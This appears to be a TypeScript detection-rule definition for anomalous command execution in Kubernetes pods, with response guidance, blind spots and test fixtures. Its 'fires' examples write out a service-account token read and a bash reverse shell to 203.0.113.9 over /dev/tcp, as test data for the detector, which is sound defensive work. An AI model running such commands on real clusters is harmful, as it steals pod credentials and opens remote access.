import { defineAnomalousDeeds } from '../kits/anomalous-deeds.ts';
import { after, APPLICATION, atFirst, byProgram, byThief, LOOKS, shell } from '../kits/deed-stories.ts';

export default defineAnomalousDeeds({
  type: 'Execution:Kubernetes/AnomalousBehavior.ExecInPod',
  tactic: 'ExecInPod',
  title: 'A command is run in a pod in an unusual way',
  why: 'A shell in a container has the credentials of the pod, and its network.',
  asks: 'Did somebody run a command in a pod who does not, or one that only intruders run?',
  attack: ['T1609'],
  severity: 'Medium',
  did: 'ran commands in pods of',
  asff: 'TTPs/AnomalousBehavior/Execution:Kubernetes-ExecInPod',
  respond: [
    'Ask whoever ran the command what for; the log has the command in the address of the request.',
    'If it was not them, take their rights in the cluster, replace the pod, and change what its service account and its secrets open.',
  ],
  blindTo: [
    'Commands that are run through the kubelet, past the API server.',
    'What is typed into a shell that was opened: the log has the command that opened it.',
    'Pods of kube-system: Execution:Kubernetes/ExecInKubeSystemPod tells of all that is run there.',
  ],
  falsePositives: ['Somebody who looks into pods for the first time, because something is broken.'],
  examples: {
    fires: {
      'the token of the pod is read': () =>
        atFirst(shell('shop', 'web-0', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token')),
      'a shell is opened to elsewhere': () =>
        atFirst(shell('shop', 'web-0', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1')),
      'the token of an application, out of the cluster': () =>
        after(20, APPLICATION, shell('shop', 'db-0', 'sh', byThief('shop', 'web'))),
    },
    quiet: {
      'a developer looks into a pod': () => atFirst(shell('shop', 'web-0')),
      'for the first time after a month': () => after(30, LOOKS, shell('shop', 'web-0')),
      'for the first time, by another client': () =>
        after(30, LOOKS, shell('shop', 'web-0', 'sh', { userAgent: 'k9s/0.50.0 (linux/amd64)' })),
      'every day, and today on a journey': () =>
        after(30, [...LOOKS, shell('shop', 'web-0')], shell('shop', 'web-0', 'sh', { sourceIPs: ['203.0.113.9'] })),
      'a runner of builds, in each of its pods': () =>
        atFirst(
          ...Array.from({ length: 30 }, (_, i) => shell('ci', `runner-${i}`, 'sh -c make', byProgram('ci', 'runner'))),
        ),
      'a backup freezes a file system every night': () =>
        after(
          10,
          [shell('shop', 'db-0', 'fsfreeze --freeze /data', byProgram('velero', 'velero'))],
          shell('shop', 'db-0', 'fsfreeze --freeze /data', byProgram('velero', 'velero')),
        ),
      'in a word that only looks alike': () => atFirst(shell('shop', 'web-0', 'cat /app/serviceaccounts/tokens.md')),
    },
  },
});
